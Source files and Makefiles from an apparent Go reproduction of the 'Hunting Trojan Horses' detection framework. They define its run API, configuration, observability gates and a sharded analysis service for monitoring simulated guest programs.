		// Per-tier execution wall time, as attributed by the TierTimer.
		// All four gauges are always published (even when zero) so a
		// span-armed run's event count stays deterministic.
		ns := rc.tt.Flush()
		for i, name := range obs.TierNames {
			rc.bus.Publish(obs.Event{
				Layer: obs.LayerRun, Kind: obs.KindMetric,
				Str: "harrier.span.tier_ns." + name, Num: uint64(ns[i]),
			})
		}
	}
	rc.bus.Publish(obs.Event{
		Layer: obs.LayerRun, Kind: obs.KindRunEnd,
		Num: os.TotalSteps, Num2: uint64(wall.Nanoseconds()),
		Str: runOutcome(runErr),
	})
}

// flightDumpPath derives the per-job flight-dump location: with a job
// tag, "<base>.<tag>.jsonl.gz", where base is the configured path with
// any ".jsonl"/".jsonl.gz" suffix stripped so tagged and untagged dumps
// keep one extension. Without a tag the configured path is used as-is.
func flightDumpPath(path, tag string) string {
	if tag == "" {
		return path
	}
	base := strings.TrimSuffix(strings.TrimSuffix(path, ".gz"), ".jsonl")
	return base + "." + tag + ".jsonl.gz"
}

// runOutcome names a scheduler outcome for run.end events.
func runOutcome(err error) string {
	switch err {
	case nil:
		return "clean"
	case vos.ErrDeadlock:
		return "deadlock"
	case vos.ErrBudget:
		return "budget"
	case vos.ErrDeadline:
		return "deadline"
	}
	return "error"
}
