GO ?= go

.PHONY: check test bench tables

# The full pre-merge gate: vet + build + tests + race-detector pass
# over the parallel corpus runner.
check:
	sh scripts/check.sh

test:
	$(GO) test ./...

# Reproduce the §9 throughput comparison and write BENCH_<date>.json.
bench:
	$(GO) run ./cmd/hth-bench -table perf -json

# Regenerate every evaluation table on a 4-wide scenario pool.
tables:
	$(GO) run ./cmd/hth-bench -table all -parallel 4
