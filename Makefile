GO ?= go

.PHONY: check test bench tables chaos trace benchgate serve soak elf clean-tier spans

# The full pre-merge gate: vet + build + tests + race-detector pass
# over the parallel corpus runner + seeded chaos sweep + fuzz smoke.
check:
	sh scripts/check.sh

# The robustness gate alone: zero-rate identity and fault containment
# over the full corpus on a fixed seed.
chaos:
	$(GO) run ./cmd/hth-bench -chaos 0xC0FFEE,0.05 -parallel 4

# The service chaos soak: concurrent tenants under a seeded
# service-level fault storm (worker crashes, stalls, corrupted specs,
# slow readers) — zero lost jobs, zero leaked goroutines — plus the
# zero-rate identity soak and the corpus-through-service signature
# gate, all under the race detector.
soak:
	$(GO) test -race -count=1 -run 'TestServiceChaosSoak|TestServiceSoakZeroRate' .
	$(GO) test -race -count=1 -run TestServiceSweepSignatureIdentity ./internal/corpus

test:
	$(GO) test ./...

# Reproduce the §9 throughput comparison and write BENCH_<date>.json.
bench:
	$(GO) run ./cmd/hth-bench -table perf -json

# Regenerate every evaluation table on a 4-wide scenario pool.
tables:
	$(GO) run ./cmd/hth-bench -table all -parallel 4

# The observability overhead gate alone (see scripts/benchgate.sh).
benchgate:
	sh scripts/benchgate.sh

# The ELF frontend gate: fixture scenarios + symbolized-provenance
# goldens, the decoder and pinned-layout unit tests, the
# InstallSource registry/legacy equivalence sweep, and a fuzz smoke
# proving malformed uploads fail typed, never panic.
elf:
	$(GO) test -count=1 -run 'TestTableE1|TestELF|FuzzELFParse|TestDecodeELF' ./internal/corpus ./internal/image
	$(GO) test -count=1 ./internal/x86 ./internal/loader
	$(GO) test -count=1 -run TestInstallSource .
	$(GO) test -fuzz=FuzzELFParse -fuzztime=10s ./internal/image

# The clean-tier gate: the full-corpus differential sweep (clean
# off/on × traces off/on, signatures bit-identical), the page-flip
# seam units, the chaos-delayed recv re-instrumentation regression,
# and a fuzz smoke over the mid-run taint-injection oracle.
clean-tier:
	$(GO) test -count=1 -run 'TestCleanTierDifferentialSweep|TestCleanTierReinstrumentOnDelayedRecv' ./internal/corpus
	$(GO) test -count=1 -run 'TestShadowSourceAfterCachedNil|TestShadowPageFlipSeam' ./internal/taint
	$(GO) test -fuzz=FuzzCleanReinstrument -fuzztime=10s ./internal/harrier

# The span-tracing gate: the hth-trace span/summary goldens, the
# Prometheus latency-histogram golden, the span-recorder stress test
# under the race detector, the service span-lifecycle suite, and the
# spans-off/on corpus differential sweep (span recording must be
# provably inert).
spans:
	$(GO) test -count=1 -run 'TestReplaySummaryGolden|TestReplaySpansChrome' ./cmd/hth-trace
	$(GO) test -count=1 -run 'TestPrometheusLatencyGolden|TestTenantCardinalityCap|TestSSEWedgedSubscriber' ./internal/obs
	$(GO) test -race -count=1 -run 'TestSpanRecorder|TestTierTimer|TestLatency' ./internal/obs
	$(GO) test -race -count=1 -run 'TestServiceJobSpanTree|TestServiceCrashRetrySpans|TestServiceDeadlineSpanStatus|TestServiceHealthLatencyRollups' .
	$(GO) test -count=1 -run TestSpanDifferentialSweep ./internal/corpus

# Run the evaluation tables with the live introspection server held
# open on :8077 — curl /metrics, /events, or /flight while it runs;
# Ctrl-C to stop.
serve:
	$(GO) run ./cmd/hth-bench -table all -parallel 2 -introspect 127.0.0.1:8077 -hold

# Record a trojandetect JSONL event trace, replay it with hth-trace,
# and diff the summary against the golden — the deterministic
# end-to-end check of the observer pipeline.
trace:
	$(GO) run ./examples/trojandetect -trace /tmp/hth-trojandetect.jsonl >/dev/null
	$(GO) run ./cmd/hth-trace -replay /tmp/hth-trojandetect.jsonl -summary \
		| diff -u testdata/trojandetect.trace.golden -
	@echo "trace replay matches golden"
