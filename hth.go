// Package hth is the public API of the HTH (Hunting Trojan Horses)
// framework — a reproduction of Moffie & Kaeli, "Hunting Trojan
// Horses" (NUCAR TR-01, 2006). HTH couples Harrier, a run-time monitor
// that virtualizes a guest program and tracks its data flow, system
// calls and basic-block frequencies, with Secpert, a CLIPS-style
// security expert system that matches the observed behaviour against a
// Trojan/Backdoor policy and warns with Low/Medium/High severity.
//
// A minimal session:
//
//	sys := hth.NewSystem()
//	sys.InstallSource("/bin/suspect", srcText)
//	res, err := sys.Run(hth.DefaultConfig(), hth.RunSpec{Path: "/bin/suspect"})
//	for _, w := range res.Warnings {
//	    fmt.Println(w)
//	}
//
// The guest world is fully simulated: programs are written in the
// guest assembly language of internal/asm, executed on the virtual OS
// of internal/vos, and may talk to scripted remote peers on the
// simulated network. See DESIGN.md for the substitution argument.
package hth

import (
	"fmt"
	"io"
	"strings"
	"sync/atomic"
	"time"

	"repro/internal/asm"
	"repro/internal/chaos"
	"repro/internal/expert"
	"repro/internal/guestlib"
	"repro/internal/harrier"
	"repro/internal/image"
	"repro/internal/obs"
	"repro/internal/secpert"
	"repro/internal/vos"
)

// Re-exported severity levels (paper §4).
const (
	Low    = secpert.Low
	Medium = secpert.Medium
	High   = secpert.High
)

// Config assembles the monitor and policy configuration for one run.
type Config struct {
	// Policy is Secpert's rule configuration.
	Policy secpert.Config
	// Monitor is Harrier's instrumentation configuration.
	Monitor harrier.Config
	// Advisor decides continue/kill per warning; nil continues always.
	Advisor secpert.Advisor
	// Unmonitored runs the guest without Harrier attached (native
	// speed; the §9 baseline).
	Unmonitored bool
	// MaxSteps caps total guest instructions (0 = generous default).
	MaxSteps uint64
	// Chaos, when non-nil, attaches a seeded fault injector to the
	// run (see internal/chaos). A zero-rate plan is guest-invisible:
	// results are bit-identical to a run with no plan at all.
	Chaos *chaos.Plan
	// Deadline bounds the run's wall-clock time; on expiry the
	// scheduler stops and Result.RunErr is vos.ErrDeadline. Zero
	// means no deadline.
	Deadline time.Duration
	// MaxOpenFDs caps open descriptors per guest process; exhaustion
	// surfaces to the guest as EMFILE. 0 applies the vos default
	// (vos.DefaultMaxOpenFDs); negative disables the cap.
	MaxOpenFDs int
	// Observers receive the run's structured event stream (syscalls,
	// scheduler decisions, taint samples, rule fires, warnings, chaos
	// faults). Attach with WithObserver; see JSONL, NewMetrics,
	// Sampling, CLIPSText. With no observers the bus is disabled and
	// every publish site costs one nil-check.
	Observers []Observer
	// Provenance enables causal provenance tracing: every taint source
	// gets a stable ID at its entry point and accumulates a bounded hop
	// list, and each warning carries the rendered chains of the sources
	// behind it (Warning.Chain). Recording is read-only with respect to
	// taint state, so detections and tag sets are bit-identical with it
	// on or off. Off by default; enable with WithProvenance.
	Provenance bool
	// Symbolize renders provenance block hops symbolically when the
	// owning image carries symbols: "bb /bin/suspect:_start+0x8" instead
	// of "bb 0x8048008" (frames without a covering symbol keep the raw
	// address). Requires Provenance; it changes only how chains render,
	// never what is recorded or detected. Off by default — the default
	// rendering stays byte-identical to earlier releases — enable with
	// WithSymbolizedChains.
	Symbolize bool
	// FlightSize arms the flight recorder: a fixed-size, allocation-free
	// ring holding the last N events even when no other observer is
	// attached. Zero leaves it off unless FlightPath or Introspect is
	// set, in which case the default size (obs.DefaultFlightSize) is
	// used. See WithFlightRecorder.
	FlightSize int
	// FlightPath, when set, dumps the flight ring as gzipped JSONL to
	// this file when the run ends with a warning, a scheduler error, a
	// guest fault, or injected chaos faults. See WithFlightDump.
	FlightPath string
	// JobTag, when set alongside FlightPath, makes the dump path
	// unique per run: "<path>.<tag>.jsonl.gz" (any ".jsonl"/".jsonl.gz"
	// suffix on FlightPath is folded in first). Pooled runs sharing a
	// dump location set this to their job id so concurrent workers
	// cannot clobber each other's post-mortem dumps. See WithJobTag.
	JobTag string
	// Introspect, when set, serves live introspection over HTTP on this
	// address for the duration of the run: /metrics (Prometheus text),
	// /events (filtered SSE stream), /flight (ring dump), and
	// /debug/pprof. The server stays up after the run until
	// Result.Introspection.Shutdown. See WithIntrospection.
	Introspect string
	// Spans arms job-lifecycle span tracing: the run records a
	// wall-clock span tree (load / instrument / execute / report, with
	// per-tier time children under execute) into Result.Spans, and
	// mirrors span.start/span.end events onto the bus when one is
	// attached. Spans are a pure observer — detections, taint state,
	// and the event stream's deterministic kinds are bit-identical
	// with spans on or off — and a disabled recorder costs one
	// nil-check per engine dispatch. See WithSpans.
	Spans bool
	// spanRec/spanParent let an embedding service graft this run's
	// phase spans under its own job trace: the run publishes into the
	// given recorder beneath spanParent instead of opening a root of
	// its own. Internal plumbing for Service; zero values mean the run
	// owns its trace.
	spanRec    *obs.SpanRecorder
	spanParent uint64
	// Verbose, when set, receives Secpert's CLIPS-style fire trace
	// and warning printout as the run progresses.
	//
	// Deprecated: attach CLIPSText(w) with WithObserver instead; the
	// rendered bytes are identical. Verbose keeps working and may be
	// combined with observers.
	Verbose io.Writer
	// TraceAsserts additionally echoes every event fact asserted
	// into the expert system (the Appendix A.1 transcript style);
	// requires Verbose.
	//
	// Deprecated: attach CLIPSTranscript(w) with WithObserver instead;
	// the rendered bytes are identical.
	TraceAsserts bool
}

// DefaultConfig mirrors the paper's prototype: full instrumentation,
// libc.so/ld-linux.so trusted, continue past warnings.
func DefaultConfig() Config {
	return Config{
		Policy:  secpert.DefaultConfig(),
		Monitor: harrier.DefaultConfig(),
	}
}

// RunSpec names the program to execute.
type RunSpec struct {
	Path  string
	Argv  []string
	Env   []string
	Stdin []byte
}

// Result is the outcome of one monitored run.
type Result struct {
	// Warnings are Secpert's alerts in emission order.
	Warnings []secpert.Warning
	// Trace is the expert engine's rule-fire history.
	Trace []expert.FireRecord
	// Console is everything the guest tree wrote to stdout/stderr.
	Console []byte
	// Process is the root guest process (inspect exit state).
	Process *vos.Process
	// Stats counts Harrier's instrumentation work (zero when
	// unmonitored).
	Stats harrier.Stats
	// Events is the EventAnalyzer transcript: every event sent to
	// Secpert with its verdict, in order (empty when unmonitored or
	// when Monitor.KeepEventLog is off).
	Events []harrier.LogEntry
	// TotalSteps is the number of guest instructions executed.
	TotalSteps uint64
	// RunErr is a scheduler-level outcome (vos.ErrDeadlock,
	// vos.ErrBudget or vos.ErrDeadline) — not a setup failure.
	RunErr error
	// Chaos lists every fault the configured injector delivered, in
	// injection order (empty without a chaos plan). Each injected
	// fault is thereby a structured, reportable outcome.
	Chaos []chaos.Fault
	// Secpert is the expert-system instance (nil when unmonitored).
	Secpert *secpert.Secpert
	// Metrics is a snapshot of the first Metrics observer attached to
	// the run (nil when none was configured).
	Metrics *MetricsSnapshot
	// Flight is the flight-recorder contents at end of run, oldest
	// first (nil when the recorder was not armed).
	Flight []Event
	// Provenance is the provenance recorder with every source's chain
	// (nil unless Config.Provenance).
	Provenance *obs.Provenance
	// Introspection is the live HTTP server, still running so the run
	// can be inspected post-mortem; the caller owns Shutdown (nil
	// unless Config.Introspect).
	Introspection *obs.Introspection
	// Spans is the run's lifecycle span recorder (nil unless
	// Config.Spans): the load/instrument/execute/report phase spans
	// with per-tier time children under execute. Export with
	// Spans.WriteChromeTrace.
	Spans *obs.SpanRecorder
	// ObserverErr is the first error an observer reported on Close —
	// e.g. a JSONL sink whose writer failed mid-run (nil when clean).
	ObserverErr error
}

// MaxSeverity returns the highest warning severity and whether any
// warning was issued.
func (r *Result) MaxSeverity() (secpert.Severity, bool) {
	if r.Secpert == nil {
		return secpert.Low, false
	}
	return r.Secpert.MaxSeverity()
}

// HasWarning reports whether any warning was issued by the named rule.
func (r *Result) HasWarning(rule string) bool {
	for _, w := range r.Warnings {
		if w.Rule == rule {
			return true
		}
	}
	return false
}

// CountAt returns how many warnings have exactly the given severity.
func (r *Result) CountAt(sev secpert.Severity) int {
	n := 0
	for _, w := range r.Warnings {
		if w.Severity == sev {
			n++
		}
	}
	return n
}

// Report renders the warnings as the paper prints them. Warnings that
// carry provenance chains (Config.Provenance) list them indented under
// the message; without provenance the output is byte-identical to
// earlier releases.
func (r *Result) Report() string {
	if len(r.Warnings) == 0 {
		return "No warnings.\n"
	}
	var b strings.Builder
	for _, w := range r.Warnings {
		fmt.Fprintf(&b, "%s\n", w)
		for _, ch := range w.Chain {
			fmt.Fprintf(&b, "    chain: %s\n", ch)
		}
		b.WriteString("\n")
	}
	return b.String()
}

// System is a guest world under construction: a virtual OS with
// guestlib installed, programs, files, and network peers.
//
// A System is not safe for concurrent runs: Run (and Session.Wait)
// reconfigure and execute the one underlying scheduler, so a second
// concurrent call returns ErrSystemBusy instead of racing. Distinct
// Systems share no mutable state; run as many as you like in
// parallel (one per job is the service and corpus-sweep discipline).
type System struct {
	// OS is the underlying virtual machine, exposed for advanced
	// setups (scheduled connections, extra hosts).
	OS *vos.OS

	// running guards the execute path: 1 while a Run/Wait holds the
	// scheduler.
	running atomic.Int32
}

// NewSystem creates a guest world with libc.so and ld-linux.so
// installed.
func NewSystem() *System {
	os := vos.New(vos.Options{})
	guestlib.InstallInto(os)
	return &System{OS: os}
}

// Install places an executable image at path.
func (s *System) Install(path string, img *image.Image) {
	s.OS.FS.Install(path, img)
}

// legacyInstall reroutes InstallSource through the historical direct
// asm.Assemble path instead of the format registry; it exists only so
// the equivalence test can prove the two paths behavior-identical.
var legacyInstall = false

// InstallSource assembles src and installs it at path. It forces the
// text frontend (image.DecodeAs) rather than sniffing, so arbitrary
// source text is never mis-detected, and compile diagnostics come back
// exactly as asm.Assemble reports them.
func (s *System) InstallSource(path, src string) error {
	if legacyInstall {
		img, err := asm.Assemble(path, src)
		if err != nil {
			return err
		}
		s.OS.FS.Install(path, img)
		return nil
	}
	img, err := image.DecodeAs("asm", path, []byte(src))
	if err != nil {
		return err
	}
	s.OS.FS.Install(path, img)
	return nil
}

// InstallBinary places a raw binary at path, decoding it through the
// format-agnostic frontend registry (ELF magic first, then the text
// heuristic). The raw bytes are retained alongside the decoded image,
// so a guest execve of the path re-decodes exactly what was installed.
// Structural failures — a malformed ELF, machine code outside the
// supported subset — wrap image.ErrBadImage.
func (s *System) InstallBinary(path string, data []byte) error {
	_, err := s.OS.FS.InstallBinary(path, data)
	return err
}

// InstallDecodedBinary places a raw binary at path together with an
// image already decoded from exactly those bytes, skipping the decode
// InstallBinary would repeat. The service uses it to reuse its
// submit-time validation decode on every execution attempt.
func (s *System) InstallDecodedBinary(path string, data []byte, img *image.Image) {
	s.OS.FS.InstallDecoded(path, data, img)
}

// MustInstallSource is InstallSource for statically known-good
// sources; it panics on assembly errors.
func (s *System) MustInstallSource(path, src string) {
	if err := s.InstallSource(path, src); err != nil {
		panic(err)
	}
}

// CreateFile places a plain file in the guest filesystem.
func (s *System) CreateFile(path string, data []byte) {
	s.OS.FS.Create(path, data)
}

// AddHost registers a hostname for the guest's gethostbyname.
func (s *System) AddHost(name, addr string) { s.OS.Net.AddHost(name, addr) }

// AddRemote registers a scripted remote service the guest can connect
// to.
func (s *System) AddRemote(endpoint string, factory func() vos.RemoteScript) {
	s.OS.Net.AddRemote(endpoint, factory)
}

// ScheduleConnect arranges a scripted remote peer to dial a guest
// listener at the given virtual time.
func (s *System) ScheduleConnect(at uint64, addr, from string, script vos.RemoteScript) {
	s.OS.Net.ScheduleConnect(at, addr, from, script)
}

// Run executes the program under the given configuration and returns
// the monitored outcome. Setup failures return an error — guest-
// attributable ones (missing program, malformed image) as a
// *GuestFault; scheduler outcomes land in Result.RunErr. A panic
// anywhere inside the run is contained at this boundary and returned
// as a *RunError rather than crashing the caller.
func (s *System) Run(cfg Config, spec RunSpec) (res *Result, err error) {
	if !s.running.CompareAndSwap(0, 1) {
		return nil, ErrSystemBusy
	}
	defer s.running.Store(0)
	defer contain("run", &res, &err)
	rc := newRunCore(s, cfg)
	if err := rc.setupErr(); err != nil {
		rc.abort()
		return nil, err
	}
	p, err := rc.start(spec)
	if err != nil {
		rc.abort()
		return nil, &GuestFault{Path: spec.Path, Err: err}
	}
	began := time.Now()
	runErr := s.OS.Run()
	return rc.finish(p, runErr, time.Since(began)), nil
}

// Session monitors one or more programs with a single Secpert
// instance — the "simultaneous sessions" extension of paper §10 item
// 7: resource provenance observed while monitoring one program
// informs the analysis of the others.
type Session struct {
	rc    *runCore
	procs []*vos.Process
}

// NewSession creates a shared monitoring session on this system. The
// configuration is applied through the same normalized path as
// System.Run, so budgets, chaos plans, observers, and the deprecated
// Verbose/TraceAsserts writers all behave identically.
func (s *System) NewSession(cfg Config) *Session {
	return &Session{rc: newRunCore(s, cfg)}
}

// Start launches a program under this session's shared monitor. The
// program does not run until Wait.
func (sn *Session) Start(spec RunSpec) (*vos.Process, error) {
	if err := sn.rc.setupErr(); err != nil {
		return nil, err
	}
	p, err := sn.rc.start(spec)
	if err != nil {
		return nil, err
	}
	sn.procs = append(sn.procs, p)
	return p, nil
}

// Wait runs every started program to completion and returns the
// combined result (Process is the first started program). Panics are
// contained as in System.Run.
func (sn *Session) Wait() (res *Result, err error) {
	if !sn.rc.sys.running.CompareAndSwap(0, 1) {
		return nil, ErrSystemBusy
	}
	defer sn.rc.sys.running.Store(0)
	defer contain("wait", &res, &err)
	if len(sn.procs) == 0 {
		return nil, fmt.Errorf("hth: session has no started programs")
	}
	began := time.Now()
	runErr := sn.rc.sys.OS.Run()
	return sn.rc.finish(sn.procs[0], runErr, time.Since(began)), nil
}
