package hth

import (
	"context"
	"errors"
	"fmt"
	"hash/fnv"
	"io"
	"sort"
	"sync"
	"sync/atomic"
	"time"

	"repro/internal/chaos"
	"repro/internal/harrier"
	"repro/internal/image"
	"repro/internal/obs"
	"repro/internal/pool"
)

// Service is the long-running analysis front of HTH: a sharded pool
// of workers executing monitored runs ("jobs") submitted by many
// concurrent tenants, built so that hostile or bursty load degrades
// the service gracefully instead of wedging it:
//
//   - every job runs in a private System on a worker goroutine from a
//     per-tenant shard, so one wedged or crashing job cannot poison
//     another tenant's throughput;
//   - the per-shard queue is bounded, and a full queue is explicit
//     backpressure (an *OverloadError carrying a Retry-After hint —
//     HTTP 429 at the transport), never unbounded buffering;
//   - admission control reads live worker-health gauges out of the
//     service's metrics registry and sheds expensive features tier by
//     tier (provenance → flight recorder → event log/stream) before
//     it starts rejecting work;
//   - a worker that panics — outside the run's own containment — is
//     recycled, and its job retries with exponential backoff up to
//     MaxRetries before terminating in a typed error;
//   - Drain never loses a job: in-flight jobs finish, queued jobs are
//     completed as structured aborts (code JobAborted).
//
// Detections are the point of the service, so none of the resilience
// machinery may touch them: at chaos rate zero a job's warnings are
// bit-identical to a batch System.Run of the same inputs, whatever
// the shed tier (shedding removes observability, never policy).
type Service struct {
	cfg     ServiceConfig
	metrics *obs.Metrics
	shards  []*shard

	// busMu serializes bus publishes: the obs.Bus itself is built for
	// the simulator's single thread, but the service publishes from
	// submitters, workers, and timers.
	busMu sync.Mutex
	bus   *obs.Bus

	mu        sync.Mutex
	jobs      map[string]*JobHandle
	doneOrder []string // completed job ids, oldest first, for eviction
	retries   map[string]*retryEntry
	faults    []chaos.Fault
	seq       uint64
	draining  bool
}

type retryEntry struct {
	timer *time.Timer
	job   *job
}

// shard is one slice of the worker pool. Tenants hash to shards, so a
// tenant whose jobs keep crashing workers or stuffing the queue
// degrades mostly its own shard.
type shard struct {
	id   int
	pool *pool.Pool

	mu     sync.Mutex
	streak int     // consecutive worker recycles without a completed job
	mix    TierMix // tier mix accumulated over this shard's done jobs
}

// ServiceConfig sizes the service and its failure policy. The zero
// value is usable: every field has a default.
type ServiceConfig struct {
	// Shards is the number of independent worker shards (default 4).
	Shards int
	// WorkersPerShard is the worker-goroutine count per shard
	// (default 1).
	WorkersPerShard int
	// QueueDepth bounds each shard's queue of admitted-but-not-running
	// jobs (default 16). A full queue rejects with *OverloadError.
	QueueDepth int
	// MaxRetries is how many times a job whose worker crashed is
	// retried before terminating in a typed error (default 2).
	MaxRetries int
	// RetryBackoff is the first crash-retry delay, doubled per attempt
	// (default 25ms).
	RetryBackoff time.Duration
	// RetryAfter is the backpressure hint handed to rejected
	// submitters (default 500ms; the HTTP layer renders it as a
	// Retry-After header).
	RetryAfter time.Duration
	// DefaultDeadline is the per-job wall-clock budget applied when the
	// spec does not name one (default 10s).
	DefaultDeadline time.Duration
	// MaxDeadline clamps per-job deadline requests (default 30s).
	MaxDeadline time.Duration
	// MaxSteps clamps per-job instruction budgets; 0 leaves the
	// run-level default (50M) in charge.
	MaxSteps uint64
	// KeepResults bounds how many completed jobs stay resolvable via
	// Lookup after termination (default 4096); older results are
	// evicted oldest-first. Held JobHandle pointers are unaffected.
	KeepResults int
	// Chaos, when non-nil, arms the service-level fault plan: each job
	// derives a private injector (Plan.Derive over the job id) that can
	// corrupt its spec, stall its dispatch, or crash its worker at
	// fixed decision points. Zero-rate plans are inert. This drives the
	// chaos soak; production services leave it nil.
	Chaos *chaos.Plan
	// Observers receive the service's own event stream (job lifecycle,
	// worker recycles, admission gauges) in addition to the built-in
	// metrics registry. They must be safe for concurrent use.
	Observers []Observer
}

func (c *ServiceConfig) normalize() {
	if c.Shards <= 0 {
		c.Shards = 4
	}
	if c.WorkersPerShard <= 0 {
		c.WorkersPerShard = 1
	}
	if c.QueueDepth <= 0 {
		c.QueueDepth = 16
	}
	if c.MaxRetries < 0 {
		c.MaxRetries = 0
	} else if c.MaxRetries == 0 {
		c.MaxRetries = 2
	}
	if c.RetryBackoff <= 0 {
		c.RetryBackoff = 25 * time.Millisecond
	}
	if c.RetryAfter <= 0 {
		c.RetryAfter = 500 * time.Millisecond
	}
	if c.DefaultDeadline <= 0 {
		c.DefaultDeadline = 10 * time.Second
	}
	if c.MaxDeadline <= 0 {
		c.MaxDeadline = 30 * time.Second
	}
	if c.KeepResults <= 0 {
		c.KeepResults = 4096
	}
}

// Shed tiers: under load the service strips a job's expensive
// features in this order before it starts rejecting work. Shedding
// only ever removes observability — provenance chains, post-mortem
// flight dumps, the event log and live stream — never detection, so a
// shed job's warnings are identical to an unshedded one.
const (
	// ShedNone runs the job exactly as specified.
	ShedNone = 0
	// ShedProvenance drops provenance tracing.
	ShedProvenance = 1
	// ShedFlight additionally drops the flight recorder and its dump.
	ShedFlight = 2
	// ShedTrace additionally drops the event log and the live update
	// stream (the job still returns its full verdict and warnings).
	ShedTrace = 3
)

// JobSpec describes one analysis job: the guest world to build, the
// program to run under the monitor, and per-job budget and feature
// requests. The JSON form is the POST /jobs wire format; the Setup
// and Tweak hooks are for in-process embedders (the bench harness and
// the corpus identity gate) and are not reachable over HTTP.
type JobSpec struct {
	// Tenant labels the submitter for sharding and per-tenant metrics
	// ("" is folded to "anon").
	Tenant string `json:"tenant,omitempty"`
	// Programs maps guest paths to assembly source; each is assembled
	// and installed into the job's private System.
	Programs map[string]string `json:"programs,omitempty"`
	// Binaries maps guest paths to raw binary payloads (base64 on the
	// wire), decoded through the format-agnostic frontend registry —
	// ELF32 executables land here. A payload no frontend accepts, or a
	// malformed one (truncated ELF, machine code outside the supported
	// subset), terminates the job with the typed bad-image error —
	// HTTP 400 — never a worker crash.
	Binaries map[string][]byte `json:"binaries,omitempty"`
	// Files maps guest paths to plain file contents.
	Files map[string][]byte `json:"files,omitempty"`
	// Path is the program to execute (required).
	Path string `json:"path"`
	// Argv, Env, Stdin are the guest process inputs.
	Argv  []string `json:"argv,omitempty"`
	Env   []string `json:"env,omitempty"`
	Stdin []byte   `json:"stdin,omitempty"`
	// MaxSteps overrides the instruction budget (clamped by the
	// service's MaxSteps).
	MaxSteps uint64 `json:"max_steps,omitempty"`
	// DeadlineMS overrides the wall-clock budget in milliseconds
	// (clamped by the service's MaxDeadline).
	DeadlineMS int64 `json:"deadline_ms,omitempty"`
	// Provenance requests causal provenance chains on warnings (shed
	// under load: tier >= ShedProvenance drops it).
	Provenance bool `json:"provenance,omitempty"`
	// Symbolize renders provenance block hops as image:symbol+delta
	// frames when the loaded images carry symbols; it is effective only
	// while Provenance is granted (and is shed with it).
	Symbolize bool `json:"symbolize,omitempty"`
	// FlightPath requests a post-mortem flight dump; the actual file
	// is "<path>.<jobid>.jsonl.gz" so concurrent jobs never clobber
	// each other (shed at tier >= ShedFlight).
	FlightPath string `json:"flight_path,omitempty"`
	// Stream requests live JobUpdate delivery (warnings as they fire)
	// on the handle's Updates channel (shed at tier >= ShedTrace).
	Stream bool `json:"stream,omitempty"`

	// Setup, when non-nil, builds the guest world programmatically
	// before Programs/Files are installed. In-process submitters only.
	Setup func(*System) `json:"-"`
	// Tweak, when non-nil, adjusts the run configuration after
	// defaults are applied and before service budget clamps and shed
	// masking. In-process submitters only.
	Tweak func(*Config) `json:"-"`
}

// Job error codes (JobError.Code).
const (
	// JobBadSpec rejects a malformed specification (missing path, no
	// program source, bad budgets) — HTTP 400.
	JobBadSpec = "bad-spec"
	// JobBadProgram rejects a spec whose program source does not
	// assemble.
	JobBadProgram = "bad-program"
	// JobBadImage rejects a spec whose binary payload is structurally
	// malformed (unrecognized bytes, truncated ELF, out-of-subset
	// machine code) — HTTP 400.
	JobBadImage = "bad-image"
	// JobGuestFault is a guest-attributable setup failure (missing
	// or malformed image at exec time).
	JobGuestFault = "guest-fault"
	// JobRunPanic is a panic inside the monitored run, contained at
	// the run boundary (*RunError).
	JobRunPanic = "run-panic"
	// JobWorkerCrash is a worker goroutine crash outside the run's
	// containment, after retries were exhausted.
	JobWorkerCrash = "worker-crash"
	// JobAborted is a queued job completed as a structured abort
	// because the service drained before it could run.
	JobAborted = "aborted"
)

// JobError is the typed terminal failure of a job. Every job the
// service admits terminates in either a verdict or exactly one of
// these — never silence.
type JobError struct {
	Code string `json:"code"`
	Msg  string `json:"msg,omitempty"`
}

// Error renders the failure.
func (e *JobError) Error() string {
	if e.Msg == "" {
		return "hth: job " + e.Code
	}
	return fmt.Sprintf("hth: job %s: %s", e.Code, e.Msg)
}

// OverloadError is the backpressure rejection: the tenant's shard
// queue is full. Retry after the hinted delay (HTTP 429 with a
// Retry-After header at the transport).
type OverloadError struct {
	Shard      int
	RetryAfter time.Duration
}

// Error renders the rejection.
func (e *OverloadError) Error() string {
	return fmt.Sprintf("hth: service overloaded (shard %d queue full); retry after %s", e.Shard, e.RetryAfter)
}

// ErrDraining rejects submissions while the service is shutting down
// (HTTP 503 at the transport).
var ErrDraining = errors.New("hth: service is draining; not accepting jobs")

// JobWarning is one policy warning in a JobResult, with its causal
// chains when provenance was on.
type JobWarning struct {
	Severity string   `json:"severity"`
	Rule     string   `json:"rule"`
	Message  string   `json:"message"`
	Chain    []string `json:"chain,omitempty"`
}

// JobResult is a job's terminal outcome.
type JobResult struct {
	ID     string `json:"id"`
	Tenant string `json:"tenant"`
	// Status is "done" (the run completed and the verdict stands),
	// "failed" (typed error; see Error), or "aborted" (drained while
	// queued; Error.Code is JobAborted).
	Status string `json:"status"`
	// Outcome is the scheduler outcome of a done run: "clean",
	// "deadlock", "budget", or "deadline".
	Outcome string `json:"outcome,omitempty"`
	// Verdict is "clean" or the highest warning severity ("Low",
	// "Medium", "High").
	Verdict  string       `json:"verdict,omitempty"`
	Warnings []JobWarning `json:"warnings,omitempty"`
	// WarnHash is an FNV-64a hash over the rendered warning texts —
	// the same reduction the corpus sweep signature uses — so verdict
	// identity against a batch run is one string compare.
	WarnHash   string `json:"warn_hash,omitempty"`
	TotalSteps uint64 `json:"total_steps,omitempty"`
	// TierMix is the run's execution-tier block-entry mix (nil for
	// failed/aborted jobs and for unmonitored runs).
	TierMix *TierMix `json:"tier_mix,omitempty"`
	// Shed is the degradation tier the job was admitted at.
	Shed int `json:"shed,omitempty"`
	// Attempts counts executions (1 unless worker crashes forced
	// retries).
	Attempts int `json:"attempts"`
	// DroppedUpdates counts stream updates dropped because the tenant
	// read too slowly (the stream never stalls a worker).
	DroppedUpdates uint64 `json:"dropped_updates,omitempty"`
	// ServiceFaults lists injected service-level chaos faults, in
	// injection order (empty without a chaos plan).
	ServiceFaults []string  `json:"service_faults,omitempty"`
	Error         *JobError `json:"error,omitempty"`
	WallNS        int64     `json:"wall_ns,omitempty"`

	// Raw is the full monitored result for in-process embedders (nil
	// for failed/aborted jobs; never serialized).
	Raw *Result `json:"-"`
}

// TierMix is the execution-tier mix of a monitored run: how many
// block entries each tier of the taint engine served. The four shares
// partition Blocks — every entry is credited to exactly one tier — so
// fleet views can aggregate mixes by plain addition. Reinstrumented
// counts clean-tier verdicts flushed because taint reached their
// footprint (not a block share, but the clean tier's safety valve, so
// it travels with the mix).
type TierMix struct {
	Blocks         uint64 `json:"blocks"`
	Interp         uint64 `json:"interp"`
